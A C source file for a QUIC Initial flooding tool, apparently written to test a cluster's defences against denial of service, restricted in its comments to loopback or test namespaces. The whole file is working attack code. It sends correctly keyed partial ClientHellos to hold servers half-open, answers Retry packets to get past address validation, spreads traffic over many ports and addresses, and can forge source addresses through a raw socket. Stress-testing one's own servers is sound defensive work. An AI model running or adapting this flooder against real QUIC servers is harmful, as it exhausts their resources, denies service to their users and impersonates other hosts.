/*
 * A keyless outsider flooding clustermember nodes with QUIC Initials: what
 * anyone who can send UDP to a node can do. Each packet opens a new
 * connection attempt (a fresh random connection ID), paced evenly over many
 * source ports of one address (or, with --spread N, of N consecutive
 * addresses from --source on: port i sends from address i mod N).
 *
 *   partial  a correctly protected Initial (RFC 9001 5.2 keys, derived from
 *            the connection ID as every QUIC server must) whose CRYPTO frame
 *            holds only the first bytes of a ClientHello: a server that
 *            admits it waits for the rest until its handshake timeout;
 *   random   a valid long header over random bytes: it fails decryption;
 *   refused  a correctly protected Initial carrying a whole ClientHello of
 *            random bytes: TLS refuses it at the first packet.
 *
 * --mix picks them: all (the default, each in turn), both (partial and
 * random), or one kind.
 * With --follow-retry the sender also answers each Retry with the Initial
 * it asks for (the token echoed, the new connection ID), as a sender that
 * owns its address can: address validation then admits it, and only the
 * per-address limits stand between it and the node.
 *
 * With --spoof-port PORT every packet is written with --source:PORT as its
 * source, through a raw socket (root only): a sender forging another's
 * address and port, a member's say, which never sees what comes back.
 *
 * Usage:
 *   cm_flood --target IP:PORT [--target ...] [--source IP] [--ports N]
 *            [--spread ADDRESSES] [--rate PER_PORT_PER_SECOND] [--seconds S]
 *            [--mix all|both|partial|random|refused] [--follow-retry]
 *            [--spoof-port PORT] [--seed N] [--self-test]
 * Prints one JSON object: packets sent, send errors, seconds, the rate
 * achieved. Stops by itself after --seconds. IPv4 only; loopback or
 * addresses inside a test's own namespaces only.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <gnutls/crypto.h>
#include <gnutls/gnutls.h>
#include <netinet/in.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define FLOOD_MAX_TARGETS 16
#define FLOOD_MAX_PORTS 1024
/* Every client Initial is padded to at least this (RFC 9000 14.1). */
#define FLOOD_INITIAL_LEN 1200
#define FLOOD_DCID_LEN 8
#define FLOOD_SCID_LEN 8
#define FLOOD_CID_MAX 20    /* RFC 9000 17.2 */
#define FLOOD_TOKEN_MAX 512 /* far above a Retry token's size */
/* A Retry: long header type 3, its integrity tag (RFC 9001 5.8). */
#define FLOOD_RETRY_TAG_LEN 16
#define FLOOD_PN_LEN 4
#define FLOOD_TAG_LEN 16
/* The bytes of ClientHello carried: far short of the length it declares. */
#define FLOOD_HELLO_BYTES 96
#define FLOOD_HELLO_DECLARED 512
/* Pacing tick: small enough that a burst never fills a socket buffer. */
#define FLOOD_TICK_NS 1000000ull

/* RFC 9001 5.2: the QUIC v1 Initial salt. */
static const uint8_t initial_salt[20] = {
    0x38, 0x76, 0x2c, 0xf7, 0xf5, 0x59, 0x34, 0xb3, 0x4d, 0x17,
    0x9a, 0xe6, 0xa4, 0xc8, 0x0c, 0xad, 0xcc, 0xbb, 0x7f, 0x0a};

typedef struct flood_keys {
  uint8_t key[16], iv[12], hp[16];
} flood_keys_t;

static uint64_t flood_rand(uint64_t *s) {
  /* splitmix64: garbage needs no better. */
  uint64_t z = (*s += 0x9e3779b97f4a7c15ull);
  z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ull;
  z = (z ^ (z >> 27)) * 0x94d049bb133111ebull;
  return z ^ (z >> 31);
}

static void flood_fill(uint64_t *s, uint8_t *d, size_t len) {
  size_t i;
  for (i = 0; i < len; i++)
    d[i] = (uint8_t)flood_rand(s);
}

/* HKDF-Expand-Label (RFC 8446 7.1) with an empty context. */
static int flood_expand_label(const uint8_t *secret, const char *label,
                              uint8_t *out, size_t len) {
  uint8_t info[2 + 1 + 6 + 32 + 1];
  size_t ll = strlen(label), n = 0;
  gnutls_datum_t prk = {(unsigned char *)secret, 32}, in;
  info[n++] = (uint8_t)(len >> 8);
  info[n++] = (uint8_t)len;
  info[n++] = (uint8_t)(6 + ll);
  memcpy(info + n, "tls13 ", 6);
  n += 6;
  memcpy(info + n, label, ll);
  n += ll;
  info[n++] = 0;
  in.data = info;
  in.size = (unsigned)n;
  return gnutls_hkdf_expand(GNUTLS_MAC_SHA256, &prk, &in, out, len);
}

static int flood_client_keys(const uint8_t *dcid, size_t dcidlen,
                             flood_keys_t *k) {
  uint8_t initial[32], client[32];
  gnutls_datum_t ikm = {(unsigned char *)dcid, (unsigned)dcidlen};
  gnutls_datum_t salt = {(unsigned char *)initial_salt, sizeof(initial_salt)};
  if (gnutls_hkdf_extract(GNUTLS_MAC_SHA256, &ikm, &salt, initial) != 0 ||
      flood_expand_label(initial, "client in", client, 32) != 0 ||
      flood_expand_label(client, "quic key", k->key, 16) != 0 ||
      flood_expand_label(client, "quic iv", k->iv, 12) != 0 ||
      flood_expand_label(client, "quic hp", k->hp, 16) != 0)
    return -1;
  return 0;
}

/* AES-128 on one block (header protection): CBC with a zero IV is ECB for
 * a single block. */
static int flood_hp_mask(const uint8_t hp[16], const uint8_t sample[16],
                         uint8_t mask[16]) {
  gnutls_cipher_hd_t h;
  uint8_t zero[16] = {0};
  gnutls_datum_t key = {(unsigned char *)hp, 16}, iv = {zero, 16};
  int rv;
  if (gnutls_cipher_init(&h, GNUTLS_CIPHER_AES_128_CBC, &key, &iv) != 0)
    return -1;
  rv = gnutls_cipher_encrypt2(h, sample, 16, mask, 16);
  gnutls_cipher_deinit(h);
  return rv == 0 ? 0 : -1;
}

static size_t flood_varint2(uint8_t *p, size_t v) {
  p[0] = (uint8_t)(0x40 | (v >> 8));
  p[1] = (uint8_t)v;
  return 2;
}

/* The start of a TLS 1.3 ClientHello: handshake header declaring more
 * than follows, legacy version, random, an empty session id, one suite. */
static size_t flood_partial_hello(uint64_t *s, uint8_t *p) {
  size_t n = 0;
  p[n++] = 0x01; /* client_hello */
  p[n++] = 0;
  p[n++] = (uint8_t)(FLOOD_HELLO_DECLARED >> 8);
  p[n++] = (uint8_t)FLOOD_HELLO_DECLARED;
  p[n++] = 0x03;
  p[n++] = 0x03;
  flood_fill(s, p + n, 32);
  n += 32;
  p[n++] = 0; /* session id */
  p[n++] = 0; /* cipher suites: 2 bytes, TLS_AES_128_GCM_SHA256 */
  p[n++] = 2;
  p[n++] = 0x13;
  p[n++] = 0x01;
  p[n++] = 1; /* compression: null */
  p[n++] = 0;
  p[n++] = (uint8_t)((FLOOD_HELLO_DECLARED - 40) >> 8); /* extensions */
  p[n++] = (uint8_t)(FLOOD_HELLO_DECLARED - 40);
  flood_fill(s, p + n, FLOOD_HELLO_BYTES - n);
  return FLOOD_HELLO_BYTES;
}

/* The connection IDs and token of one Initial. A first Initial has a
 * random DCID and no token; one that follows a Retry uses the Retry's SCID
 * as its DCID and echoes its token. */
typedef struct flood_ids {
  uint8_t dcid[FLOOD_CID_MAX], scid[FLOOD_CID_MAX];
  size_t dcidlen, scidlen;
  const uint8_t *token;
  size_t tokenlen;
} flood_ids_t;

enum flood_kind {
  FLOOD_PARTIAL = 0, /* protected, the start of a ClientHello */
  FLOOD_RANDOM = 1,  /* random bytes under the header */
  FLOOD_REFUSED = 2, /* protected, a whole ClientHello TLS cannot parse */
  FLOOD_KINDS = 3
};

/* A complete handshake message of type client_hello whose body is random:
 * TLS refuses it at once (a decode error), so the connection ends at its
 * first packet and never waits half-open. */
static size_t flood_refused_hello(uint64_t *s, uint8_t *p) {
  p[0] = 0x01;
  p[1] = 0;
  p[2] = 0;
  p[3] = FLOOD_HELLO_BYTES - 4;
  flood_fill(s, p + 4, FLOOD_HELLO_BYTES - 4);
  return FLOOD_HELLO_BYTES;
}

/* One Initial of the given kind into out (FLOOD_INITIAL_LEN bytes). */
static int flood_initial(uint64_t *s, enum flood_kind kind,
                         const flood_ids_t *ids, uint8_t *out) {
  uint8_t plain[FLOOD_INITIAL_LEN], nonce[12];
  size_t n = 0, pn_off, payload_len, i;
  flood_keys_t k;

  out[n++] = 0xc0 | (FLOOD_PN_LEN - 1); /* long header, Initial */
  out[n++] = 0;
  out[n++] = 0;
  out[n++] = 0;
  out[n++] = 1; /* QUIC v1 */
  out[n++] = (uint8_t)ids->dcidlen;
  memcpy(out + n, ids->dcid, ids->dcidlen);
  n += ids->dcidlen;
  out[n++] = (uint8_t)ids->scidlen;
  memcpy(out + n, ids->scid, ids->scidlen);
  n += ids->scidlen;
  n += flood_varint2(out + n, ids->tokenlen);
  memcpy(out + n, ids->token, ids->tokenlen);
  n += ids->tokenlen;
  payload_len = FLOOD_INITIAL_LEN - n - 2 - FLOOD_PN_LEN - FLOOD_TAG_LEN;
  n += flood_varint2(out + n, FLOOD_PN_LEN + payload_len + FLOOD_TAG_LEN);
  pn_off = n;
  memset(out + n, 0, FLOOD_PN_LEN); /* packet number 0 */
  n += FLOOD_PN_LEN;
  if (kind == FLOOD_RANDOM) {
    flood_fill(s, out + n, FLOOD_INITIAL_LEN - n);
    return 0;
  }
  {
    /* CRYPTO frame at offset 0, then PADDING (zeros). */
    size_t m = 0;
    memset(plain, 0, payload_len);
    plain[m++] = 0x06;
    plain[m++] = 0x00;
    m += flood_varint2(plain + m, FLOOD_HELLO_BYTES);
    if (kind == FLOOD_PARTIAL)
      flood_partial_hello(s, plain + m);
    else
      flood_refused_hello(s, plain + m);
  }
  if (flood_client_keys(ids->dcid, ids->dcidlen, &k) != 0)
    return -1;
  memcpy(nonce, k.iv, 12); /* packet number 0: the IV is the nonce */
  {
    gnutls_aead_cipher_hd_t h;
    gnutls_datum_t key = {k.key, 16};
    size_t clen = payload_len + FLOOD_TAG_LEN;
    int rv;
    if (gnutls_aead_cipher_init(&h, GNUTLS_CIPHER_AES_128_GCM, &key) != 0)
      return -1;
    rv = gnutls_aead_cipher_encrypt(h, nonce, 12, out, n, FLOOD_TAG_LEN, plain,
                                    payload_len, out + n, &clen);
    gnutls_aead_cipher_deinit(h);
    if (rv != 0 || clen != payload_len + FLOOD_TAG_LEN)
      return -1;
  }
  {
    uint8_t mask[16];
    if (flood_hp_mask(k.hp, out + pn_off + 4, mask) != 0)
      return -1;
    out[0] ^= mask[0] & 0x0f;
    for (i = 0; i < FLOOD_PN_LEN; i++)
      out[pn_off + i] ^= mask[1 + i];
  }
  return 0;
}

/* RFC 9001 appendix A.1: the client keys for DCID 0x8394c8f03e515708. */
static int flood_self_test(void) {
  static const uint8_t dcid[8] = {0x83, 0x94, 0xc8, 0xf0,
                                  0x3e, 0x51, 0x57, 0x08};
  static const uint8_t key[16] = {0x1f, 0x36, 0x96, 0x13, 0xdd, 0x76,
                                  0xd5, 0x46, 0x77, 0x30, 0xef, 0xcb,
                                  0xe3, 0xb1, 0xa2, 0x2d};
  static const uint8_t iv[12] = {0xfa, 0x04, 0x4b, 0x2f, 0x42, 0xa3,
                                 0xfd, 0x3b, 0x46, 0xfb, 0x25, 0x5c};
  static const uint8_t hp[16] = {0x9f, 0x50, 0x44, 0x9e, 0x04, 0xa0,
                                 0xe8, 0x10, 0x28, 0x3a, 0x1e, 0x99,
                                 0x33, 0xad, 0xed, 0xd2};
  flood_keys_t k;
  if (flood_client_keys(dcid, sizeof(dcid), &k) != 0 ||
      memcmp(k.key, key, 16) != 0 || memcmp(k.iv, iv, 12) != 0 ||
      memcmp(k.hp, hp, 16) != 0) {
    fprintf(stderr, "cm_flood: Initial key derivation is wrong\n");
    return 1;
  }
  printf("{\"self_test\": \"ok\"}\n");
  return 0;
}

static uint64_t flood_now_ns(void) {
  struct timespec ts;
  clock_gettime(CLOCK_MONOTONIC, &ts);
  return (uint64_t)ts.tv_sec * 1000000000ull + (uint64_t)ts.tv_nsec;
}

static int flood_parse_target(const char *s, struct sockaddr_in *sa) {
  char host[64];
  const char *colon = strrchr(s, ':');
  long port;
  if (colon == NULL || (size_t)(colon - s) >= sizeof(host))
    return -1;
  memcpy(host, s, (size_t)(colon - s));
  host[colon - s] = 0;
  port = strtol(colon + 1, NULL, 10);
  memset(sa, 0, sizeof(*sa));
  sa->sin_family = AF_INET;
  sa->sin_port = htons((uint16_t)port);
  if (port <= 0 || port > 65535 || inet_pton(AF_INET, host, &sa->sin_addr) != 1)
    return -1;
  return 0;
}

/* A Retry's connection IDs and token (RFC 9000 17.2.5), into ids: the
 * server's SCID becomes our DCID, its DCID (our SCID) stays ours. The
 * integrity tag is not checked: a forged Retry costs us one Initial. */
static int flood_parse_retry(const uint8_t *p, size_t len, flood_ids_t *ids,
                             uint8_t *token) {
  size_t n = 5, l;
  if (len < n + 2 + FLOOD_RETRY_TAG_LEN || (p[0] & 0xf0) != 0xf0)
    return -1;
  l = p[n++];
  if (l > FLOOD_CID_MAX || n + l + 1 > len)
    return -1;
  memcpy(ids->scid, p + n, l);
  ids->scidlen = l;
  n += l;
  l = p[n++];
  if (l > FLOOD_CID_MAX || n + l + FLOOD_RETRY_TAG_LEN > len)
    return -1;
  memcpy(ids->dcid, p + n, l);
  ids->dcidlen = l;
  n += l;
  l = len - n - FLOOD_RETRY_TAG_LEN;
  if (l == 0 || l > FLOOD_TOKEN_MAX)
    return -1;
  memcpy(token, p + n, l);
  ids->token = token;
  ids->tokenlen = l;
  return 0;
}

typedef struct flood {
  int fds[FLOOD_MAX_PORTS];
  size_t nports;
  struct sockaddr_in targets[FLOOD_MAX_TARGETS];
  size_t ntargets;
  unsigned kinds; /* bit k: kind k is sent, in turn with the others */
  uint64_t seed;
  /* --spoof-port: every packet leaves a raw socket with this source. */
  int raw;
  struct sockaddr_in spoof;
  uint64_t sent, by_kind[FLOOD_KINDS], errors, retries_seen, retries_followed;
} flood_t;

/* The kinds --mix names: 0 when the name is unknown. */
static unsigned flood_mix(const char *mix) {
  if (strcmp(mix, "partial") == 0)
    return 1u << FLOOD_PARTIAL;
  if (strcmp(mix, "random") == 0)
    return 1u << FLOOD_RANDOM;
  if (strcmp(mix, "refused") == 0)
    return 1u << FLOOD_REFUSED;
  if (strcmp(mix, "both") == 0)
    return (1u << FLOOD_PARTIAL) | (1u << FLOOD_RANDOM);
  if (strcmp(mix, "all") == 0)
    return (1u << FLOOD_KINDS) - 1;
  return 0;
}

/* The serial-th packet's kind: the kinds of the mask `kinds` in turn. */
static enum flood_kind flood_pick(unsigned kinds, uint64_t serial) {
  unsigned n = 0, k, want;
  for (k = 0; k < FLOOD_KINDS; k++)
    n += (kinds >> k) & 1u;
  want = (unsigned)(serial % n);
  for (k = 0; k < FLOOD_KINDS; k++)
    if (((kinds >> k) & 1u) && want-- == 0)
      break;
  return (enum flood_kind)k;
}

/* IPv4 and UDP headers before the payload, for the raw socket: the kernel
 * fills in the IP checksum and total length, and UDP over IPv4 may go
 * without a checksum (RFC 768). */
static size_t flood_spoof_headers(const flood_t *f,
                                  const struct sockaddr_in *to, uint8_t *p,
                                  size_t payload) {
  size_t udp = 8 + payload;
  memset(p, 0, 28);
  p[0] = 0x45; /* IPv4, 20-byte header */
  p[8] = 64;   /* TTL */
  p[9] = IPPROTO_UDP;
  memcpy(p + 12, &f->spoof.sin_addr, 4);
  memcpy(p + 16, &to->sin_addr, 4);
  memcpy(p + 20, &f->spoof.sin_port, 2);
  memcpy(p + 22, &to->sin_port, 2);
  p[24] = (uint8_t)(udp >> 8);
  p[25] = (uint8_t)udp;
  return 28;
}

static int flood_send(flood_t *f, int fd, const struct sockaddr_in *to,
                      const flood_ids_t *ids, enum flood_kind kind) {
  uint8_t buf[28 + FLOOD_INITIAL_LEN];
  size_t hdr = 0;
  if (f->raw >= 0) {
    fd = f->raw;
    hdr = flood_spoof_headers(f, to, buf, FLOOD_INITIAL_LEN);
  }
  if (flood_initial(&f->seed, kind, ids, buf + hdr) != 0) {
    fprintf(stderr, "cm_flood: crypto failed\n");
    return -1;
  }
  if (sendto(fd, buf, hdr + FLOOD_INITIAL_LEN, 0, (const struct sockaddr *)to,
             sizeof(*to)) < 0)
    f->errors++;
  f->by_kind[kind]++;
  f->sent++;
  return 0;
}

/* Answer every Retry waiting on our sockets with the Initial it asks for:
 * what a sender that owns its address does to get past address
 * validation. */
static int flood_follow_retries(flood_t *f) {
  uint8_t buf[2048], token[FLOOD_TOKEN_MAX];
  size_t i;
  for (i = 0; i < f->nports; i++) {
    for (;;) {
      struct sockaddr_in from;
      socklen_t fromlen = sizeof(from);
      flood_ids_t ids;
      ssize_t r = recvfrom(f->fds[i], buf, sizeof(buf), 0,
                           (struct sockaddr *)&from, &fromlen);
      if (r < 0)
        break;
      if (flood_parse_retry(buf, (size_t)r, &ids, token) != 0)
        continue;
      /* Random bytes never draw a Retry: the answer is one of the
       * others, in turn. */
      unsigned answer = f->kinds & ~(1u << FLOOD_RANDOM);
      f->retries_seen++;
      if (flood_send(f, f->fds[i], &from, &ids,
                     flood_pick(answer != 0 ? answer : f->kinds,
                                f->retries_followed)) != 0)
        return -1;
      f->retries_followed++;
    }
  }
  return 0;
}

static void flood_usage(void) {
  fprintf(stderr, "usage: cm_flood --target IP:PORT [--target ...] "
                  "[--source IP] [--ports N] [--spread N] [--spoof-port P] "
                  "[--rate R] [--seconds S] "
                  "[--mix all|both|partial|random|refused] "
                  "[--follow-retry] [--seed N] [--self-test]\n");
}

int main(int argc, char **argv) {
  static flood_t f;
  struct sockaddr_in src;
  size_t i;
  double rate = 300.0, seconds = 15.0, elapsed;
  const char *source = "127.0.0.1", *mix = "all";
  uint64_t t0, end, due;
  unsigned long spread = 1, spoof_port = 0;
  int a, follow = 0;

  f.nports = 60;
  f.seed = 1;
  f.raw = -1;
  for (a = 1; a < argc; a++) {
    const char *v = a + 1 < argc ? argv[a + 1] : NULL;
    if (strcmp(argv[a], "--self-test") == 0)
      return flood_self_test();
    if (strcmp(argv[a], "--follow-retry") == 0) {
      follow = 1;
      continue;
    }
    if (v == NULL) {
      flood_usage();
      return 2;
    }
    if (strcmp(argv[a], "--target") == 0) {
      if (f.ntargets == FLOOD_MAX_TARGETS ||
          flood_parse_target(v, &f.targets[f.ntargets]) != 0) {
        fprintf(stderr, "cm_flood: bad target %s\n", v);
        return 2;
      }
      f.ntargets++;
    } else if (strcmp(argv[a], "--source") == 0) {
      source = v;
    } else if (strcmp(argv[a], "--spread") == 0) {
      spread = strtoul(v, NULL, 10);
    } else if (strcmp(argv[a], "--spoof-port") == 0) {
      spoof_port = strtoul(v, NULL, 10);
    } else if (strcmp(argv[a], "--ports") == 0) {
      f.nports = (size_t)strtoul(v, NULL, 10);
    } else if (strcmp(argv[a], "--rate") == 0) {
      rate = strtod(v, NULL);
    } else if (strcmp(argv[a], "--seconds") == 0) {
      seconds = strtod(v, NULL);
    } else if (strcmp(argv[a], "--mix") == 0) {
      mix = v;
    } else if (strcmp(argv[a], "--seed") == 0) {
      f.seed = strtoull(v, NULL, 10);
    } else {
      flood_usage();
      return 2;
    }
    a++;
  }
  f.kinds = flood_mix(mix);
  if (f.ntargets == 0 || f.nports == 0 || f.nports > FLOOD_MAX_PORTS ||
      spread == 0 || spread > f.nports || !(rate > 0) || !(seconds > 0) ||
      seconds > 600 || f.kinds == 0 || spoof_port > 65535 ||
      (spoof_port != 0 && (follow || spread != 1))) {
    flood_usage();
    return 2;
  }
  memset(&src, 0, sizeof(src));
  src.sin_family = AF_INET;
  if (inet_pton(AF_INET, source, &src.sin_addr) != 1) {
    fprintf(stderr, "cm_flood: bad source %s\n", source);
    return 2;
  }
  if (spoof_port != 0) {
    /* A forged source address and port: a raw socket writes its own IP
     * header (root only). Nothing can come back to it. */
    f.spoof = src;
    f.spoof.sin_port = htons((uint16_t)spoof_port);
    f.raw = socket(AF_INET, SOCK_RAW | SOCK_CLOEXEC, IPPROTO_RAW);
    if (f.raw < 0) {
      fprintf(stderr, "cm_flood: raw socket: %s\n", strerror(errno));
      return 1;
    }
  }
  for (i = 0; i < f.nports; i++) {
    /* Socket i sends from the source address plus i mod spread. */
    struct sockaddr_in from = src;
    from.sin_addr.s_addr =
        htonl(ntohl(src.sin_addr.s_addr) + (uint32_t)(i % spread));
    if (spoof_port != 0)
      from.sin_addr.s_addr = htonl(INADDR_LOOPBACK); /* sends nothing */
    f.fds[i] = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK | SOCK_CLOEXEC, 0);
    if (f.fds[i] < 0 ||
        bind(f.fds[i], (struct sockaddr *)&from, sizeof(from)) != 0) {
      fprintf(stderr, "cm_flood: socket on %s: %s\n", source, strerror(errno));
      return 1;
    }
  }

  t0 = flood_now_ns();
  end = t0 + (uint64_t)(seconds * 1e9);
  for (;;) {
    uint64_t now = flood_now_ns(), fresh;
    struct timespec ts;
    if (now >= end)
      break;
    /* Fresh Initials due by now, round robin over ports and targets, the
     * kinds in turn at each target; Initials that follow Retries come on
     * top. */
    due = (uint64_t)((double)(now - t0) * 1e-9 * rate * (double)f.nports);
    for (fresh = f.sent - f.retries_followed; fresh < due; fresh++) {
      flood_ids_t ids;
      memset(&ids, 0, sizeof(ids));
      ids.dcidlen = FLOOD_DCID_LEN;
      ids.scidlen = FLOOD_SCID_LEN;
      flood_fill(&f.seed, ids.dcid, ids.dcidlen);
      flood_fill(&f.seed, ids.scid, ids.scidlen);
      if (flood_send(&f, f.fds[fresh % f.nports],
                     &f.targets[fresh % f.ntargets], &ids,
                     flood_pick(f.kinds, fresh / f.ntargets)) != 0)
        return 1;
    }
    if (follow && flood_follow_retries(&f) != 0)
      return 1;
    ts.tv_sec = 0;
    ts.tv_nsec = (long)FLOOD_TICK_NS;
    nanosleep(&ts, NULL);
  }
  elapsed = (double)(flood_now_ns() - t0) * 1e-9;
  for (i = 0; i < f.nports; i++)
    close(f.fds[i]);
  if (f.raw >= 0)
    close(f.raw);
  printf("{\"sent\": %llu, \"partial\": %llu, \"random\": %llu, "
         "\"refused\": %llu, \"send_errors\": %llu, "
         "\"retries_seen\": %llu, \"retries_followed\": %llu, "
         "\"seconds\": %.3f, \"rate\": %.1f, \"ports\": %zu, "
         "\"spread\": %lu, \"spoof_port\": %lu, \"source\": \"%s\"}\n",
         (unsigned long long)f.sent,
         (unsigned long long)f.by_kind[FLOOD_PARTIAL],
         (unsigned long long)f.by_kind[FLOOD_RANDOM],
         (unsigned long long)f.by_kind[FLOOD_REFUSED],
         (unsigned long long)f.errors, (unsigned long long)f.retries_seen,
         (unsigned long long)f.retries_followed, elapsed,
         (double)f.sent / elapsed, f.nports, spread, spoof_port, source);
  return 0;
}
